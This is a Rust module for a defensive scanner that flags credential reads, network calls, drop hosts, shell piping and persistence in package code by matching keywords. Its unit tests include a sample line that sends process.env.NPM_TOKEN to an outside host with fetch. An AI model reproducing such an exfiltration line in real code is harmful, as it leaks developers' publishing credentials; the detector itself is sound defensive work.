//! What a file of code can do, read from its text: what it reads, where it talks to, what it runs. No program is understood
//! here; a few hundred words that such programs cannot do without are looked for in one pass, and the rules combine them.

mod needles;

use std::collections::{BTreeMap, BTreeSet};
use std::sync::OnceLock;

use aho_corasick::{AhoCorasick, MatchKind};
use regex_automata::meta::Regex;

use super::obfuscation::{self, Obfuscation};
use needles::NEEDLES;

/// What is read of one file.
const MOST_BYTES: usize = 8 << 20;
/// Kept of one kind of thing a file does.
const MOST_EVIDENCE: usize = 12;
/// Kept of one file's hosts.
const MOST_HOSTS: usize = 200;

/// A kind of thing that code does.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Doing {
    /// Reads a credential of the person or machine that runs it.
    Credential,
    /// Takes all of the environment, or searches the disk for secrets.
    Harvest,
    /// Talks to the network.
    Network,
    /// Names a place where stolen things are dropped, or an address without a name.
    Drop,
    /// Runs other programs.
    Process,
    /// Runs text as code.
    Evaluate,
    /// Turns text into other text.
    Decode,
    /// Writes pipelines of repositories.
    Workflow,
    /// Publishes packages.
    Publish,
    /// Changes what runs later on this machine.
    Persist,
    /// Pipes a download into a shell.
    RemoteShell,
}

/// One thing a file does, and where.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Evidence {
    pub(super) doing: Doing,
    /// As people call it: `~/.npmrc`.
    pub(super) what: &'static str,
    pub(super) line: u32,
}

/// Languages whose code is read.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Language {
    JavaScript,
    Python,
    Shell,
    Other,
}

/// What a file of code does.
#[derive(Debug, Clone)]
pub(super) struct Code {
    pub(super) evidence: Vec<Evidence>,
    /// Hosts it names outside of comments, each with its first line.
    pub(super) hosts: BTreeMap<String, u32>,
    pub(super) obfuscation: Obfuscation,
    /// Files of the same package it loads, as it names them.
    pub(super) loads: Vec<String>,
}

impl Language {
    /// The language of a file by its name, or by the program its first line names.
    pub(super) fn of(path: &str, bytes: &[u8]) -> Option<Self> {
        let file = path.rsplit(['/', '!']).next().unwrap_or(path).to_ascii_lowercase();
        if file.ends_with(".d.ts") || file.ends_with(".d.mts") || file.ends_with(".d.cts") {
            return None;
        }
        if let Some((_, ending)) = file.rsplit_once('.') {
            match ending {
                "js" | "mjs" | "cjs" | "jsx" | "ts" | "mts" | "cts" | "tsx" => return Some(Self::JavaScript),
                "py" | "pyw" | "pth" => return Some(Self::Python),
                "sh" | "bash" | "zsh" | "ps1" | "psm1" | "bat" | "cmd" => return Some(Self::Shell),
                "rs" | "rb" | "php" | "pl" | "lua" | "go" | "java" | "kt" | "cs" | "targets" | "props" | "gemspec" => {
                    return Some(Self::Other);
                }
                _ => {}
            }
        }
        let line = bytes.get(..80.min(bytes.len())).and_then(|head| head.split(|byte| *byte == b'\n').next())?;
        let line = line.strip_prefix(b"#!")?;
        let names = |word: &[u8]| memchr::memmem::find(line, word).is_some();
        Some(if names(b"python") {
            Self::Python
        } else if names(b"node") || names(b"deno") || names(b"bun") {
            Self::JavaScript
        } else {
            Self::Shell
        })
    }
}

impl Code {
    /// Reads a file.
    pub(super) fn read(language: Language, bytes: &[u8]) -> Self {
        let bytes = bytes.get(..MOST_BYTES).unwrap_or(bytes);
        let text = String::from_utf8_lossy(bytes);
        let lines = Lines::new(&text);
        let mut evidence: Vec<Evidence> = Vec::new();
        for found in words().find_overlapping_iter(text.as_bytes()) {
            let Some(needle) = NEEDLES.get(found.pattern().as_usize()) else { continue };
            let (doing, what) = (needle.doing, needle.what);
            if evidence.iter().any(|one| one.doing == doing && one.what == what)
                || evidence.iter().filter(|one| one.doing == doing).count() >= MOST_EVIDENCE
                || !stands_alone(text.as_bytes(), found.start(), needle.text)
                || !needle.languages.fits(language)
            {
                continue;
            }
            let (line, content) = lines.at(found.start());
            if !is_comment(content) {
                evidence.push(Evidence { doing, what, line });
            }
        }
        let mut hosts = BTreeMap::new();
        for (start, host) in hosts_of(&text) {
            let (line, content) = lines.at(start);
            if hosts.len() < MOST_HOSTS && !is_comment(content) {
                if let Some(what) = drop_of(&host).filter(|what| !evidence.iter().any(|one| one.what == *what)) {
                    evidence.push(Evidence { doing: Doing::Drop, what, line });
                }
                hosts.entry(host).or_insert(line);
            }
        }
        evidence.sort_by_key(|one| (one.line, one.doing));
        let loads = if language == Language::JavaScript { loads(&text) } else { Vec::new() };
        Self { evidence, hosts, obfuscation: obfuscation::of(language, &text), loads }
    }

    /// Whether it does a thing.
    pub(super) fn does(&self, doing: Doing) -> bool {
        self.evidence.iter().any(|one| one.doing == doing)
    }
}

fn words() -> &'static AhoCorasick {
    static WORDS: OnceLock<AhoCorasick> = OnceLock::new();
    WORDS.get_or_init(|| {
        let texts = NEEDLES.iter().map(|needle| needle.text);
        // The table is our own and small; an automaton of nothing stands for the failure that cannot be.
        AhoCorasick::builder().match_kind(MatchKind::Standard).build(texts).unwrap_or_else(|_| {
            AhoCorasick::new([] as [&str; 0]).unwrap_or_else(|_| unreachable!("an automaton of nothing can be built"))
        })
    })
}

/// Whether a word that begins or ends like a name is not part of a longer one.
fn stands_alone(text: &[u8], start: usize, word: &str) -> bool {
    let is_name = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'$');
    let before = start.checked_sub(1).and_then(|at| text.get(at));
    let after = text.get(start + word.len());
    let (first, last) = (word.as_bytes().first(), word.as_bytes().last());
    // `fetch(` alone is the network, `cache.fetch(` is not.
    let method = before == Some(&b'.') && last == Some(&b'(') && !word.contains('.');
    !(first.is_some_and(is_name) && (before.is_some_and(is_name) || method))
        && !(last.is_some_and(is_name) && after.is_some_and(is_name))
}

/// A line that says something to people only.
fn is_comment(line: &str) -> bool {
    let line = line.trim_start();
    ["//", "*", "#", "/*", "<!--", "--", ";;", "REM "].iter().any(|start| line.starts_with(start))
        && !line.starts_with("#!")
}

/// The lines of a text, to find one by an offset.
struct Lines<'t> {
    text: &'t str,
    starts: Vec<usize>,
}

impl<'t> Lines<'t> {
    fn new(text: &'t str) -> Self {
        let starts = std::iter::once(0).chain(memchr::memchr_iter(b'\n', text.as_bytes()).map(|at| at + 1)).collect();
        Self { text, starts }
    }

    /// The number of the line and the line, cut off where minified code has no end.
    fn at(&self, offset: usize) -> (u32, &'t str) {
        let index = self.starts.partition_point(|start| *start <= offset).saturating_sub(1);
        let start = self.starts.get(index).copied().unwrap_or_default();
        let end = self.starts.get(index + 1).copied().unwrap_or(self.text.len()).min(start + 400);
        let end = (start..=end).rev().find(|end| self.text.is_char_boundary(*end)).unwrap_or(start);
        (u32::try_from(index + 1).unwrap_or(u32::MAX), self.text.get(start..end).unwrap_or_default())
    }
}

/// Hosts that code and its licence headers name everywhere, and that nobody sends anything to.
const HARMLESS: &[&str] = &[
    "w3.org",
    "www.w3.org",
    "json-schema.org",
    "schema.org",
    "xml.apache.org",
    "apache.org",
    "www.apache.org",
    "opensource.org",
    "spdx.org",
    "mozilla.org",
    "developer.mozilla.org",
    "reactjs.org",
    "react.dev",
    "nodejs.org",
    "docs.python.org",
    "docs.rs",
    "doc.rust-lang.org",
    "rust-lang.org",
    "schemas.microsoft.com",
    "xmlns.com",
    "ns.adobe.com",
    "purl.org",
    "fb.me",
    "git.io",
    "localhost",
    "0.0.0.0",
    "tools.ietf.org",
    "datatracker.ietf.org",
    "en.wikipedia.org",
    "stackoverflow.com",
    "tc39.es",
    "unicode.org",
    "www.unicode.org",
    "creativecommons.org",
];

/// Hosts that a text names in addresses: where and which.
fn hosts_of(text: &str) -> Vec<(usize, String)> {
    let mut found = Vec::new();
    for at in memchr::memmem::find_iter(text.as_bytes(), b"://") {
        let scheme = text.get(..at).unwrap_or_default();
        if !["http", "https", "ws", "wss", "ftp", "tcp"].iter().any(|one| scheme.ends_with(one)) {
            continue;
        }
        let rest = text.get(at + 3..).unwrap_or_default();
        let end =
            rest.find(|one: char| !(one.is_ascii_alphanumeric() || matches!(one, '.' | '-'))).unwrap_or(rest.len());
        let host = rest.get(..end).unwrap_or_default().trim_end_matches('.').to_ascii_lowercase();
        let reserved = [".test", ".invalid", ".example", ".local", ".localhost"].iter().any(|end| host.ends_with(end));
        let example = ["example.com", "example.org", "example.net"].iter().any(|one| host.ends_with(one));
        let loopback = host.starts_with("127.") || host.starts_with("192.168.") || host.starts_with("10.");
        if host.contains('.')
            && host.len() <= 253
            && !reserved
            && !example
            && !loopback
            && !HARMLESS.contains(&host.as_str())
        {
            found.push((at, host));
        }
        if found.len() > 10 * MOST_HOSTS {
            break;
        }
    }
    found
}

/// What kind of dropping place a host is, if it is one.
fn drop_of(host: &str) -> Option<&'static str> {
    if host.split('.').count() == 4 && host.split('.').all(|part| part.parse::<u8>().is_ok()) {
        let octet = |at| host.split('.').nth(at).and_then(|part| part.parse::<u8>().ok()).unwrap_or_default();
        // Networks of one's own, of the link, of groups: nobody far away listens there.
        let near = matches!((octet(0), octet(1)), (0 | 10 | 127 | 224.., _) | (169, 254) | (172, 16..=31) | (192, 168));
        return (!near).then_some("an address without a name");
    }
    let ends = |end: &str| host == end || host.strip_suffix(end).is_some_and(|rest| rest.ends_with('.'));
    needles::DROPS.iter().find(|(end, _)| ends(end)).map(|(_, what)| *what)
}

/// Relative paths a JavaScript file loads.
fn loads(text: &str) -> Vec<String> {
    static LOADS: OnceLock<Option<Regex>> = OnceLock::new();
    let pattern = r#"(?:require\s*\(|import\s*\(|from|import|fork\s*\(|spawn\s*\()\s*['"](\.{1,2}/[^'"\n]{1,200})['"]"#;
    let Some(regex) = LOADS.get_or_init(|| Regex::new(pattern).ok()) else { return Vec::new() };
    let found: BTreeSet<String> = regex
        .captures_iter(text)
        .filter_map(|captures| captures.get_group(1).and_then(|group| text.get(group.range())).map(str::to_owned))
        .take(MOST_HOSTS)
        .collect();
    found.into_iter().collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn js(text: &str) -> Code {
        Code::read(Language::JavaScript, text.as_bytes())
    }

    #[test]
    fn words_count_only_where_they_stand_alone() {
        assert!(js("const x = retrieval(1); cache.fetch('a')").evidence.is_empty());
        assert!(js("// fetch('https://a.dev')\n * NPM_TOKEN").evidence.is_empty());
        let code = js("const a = 1;\nfetch('https://collect.dev/x', {body: process.env.NPM_TOKEN})");
        let found: Vec<_> = code.evidence.iter().map(|one| (one.doing, one.what, one.line)).collect();
        assert_eq!(found, [(Doing::Credential, "NPM_TOKEN", 2), (Doing::Network, "fetch", 2)]);
        assert_eq!(code.hosts.into_iter().collect::<Vec<_>>(), [("collect.dev".to_owned(), 2)]);
    }

    #[test]
    fn hosts_of_documentation_are_passed_over() {
        let text = "a='http://www.w3.org/2000/svg'; b='https://api.service.dev/v1'; c='http://127.0.0.1:80'; d='http://203.0.113.9/x'";
        let code = js(text);
        assert_eq!(code.hosts.keys().collect::<Vec<_>>(), ["203.0.113.9", "api.service.dev"]);
        assert!(code.does(Doing::Drop));
    }

    #[test]
    fn what_is_loaded_from_the_same_package_is_known() {
        let code = js("const a = require('./steal'); import b from \"../lib/b.js\"; require('fs')");
        assert_eq!(code.loads, ["../lib/b.js", "./steal"]);
    }
}
